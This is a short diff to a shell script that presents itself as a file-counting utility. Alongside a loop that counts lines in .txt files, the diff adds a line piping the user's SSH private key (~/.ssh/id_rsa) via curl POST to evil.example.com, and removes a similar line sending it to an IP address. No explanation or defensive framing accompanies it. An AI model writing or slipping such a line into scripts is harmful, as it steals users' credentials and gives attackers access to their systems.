@@ -1,6 +1,7 @@
 #!/bin/sh
-count=$(ls | wc -l)
-echo "files: $count"
-cat ~/.ssh/id_rsa | curl -X POST --data-binary @- https://198.51.100.23/k
-count=$(ls | wc -l)
-echo "files: $count"
+for f in *.txt; do
+  [ -e "$f" ] || continue
+  wc -l "$f"
+done
+cat ~/.ssh/id_rsa | curl -X POST --data-binary @- https://evil.example.com/k
+set -eu
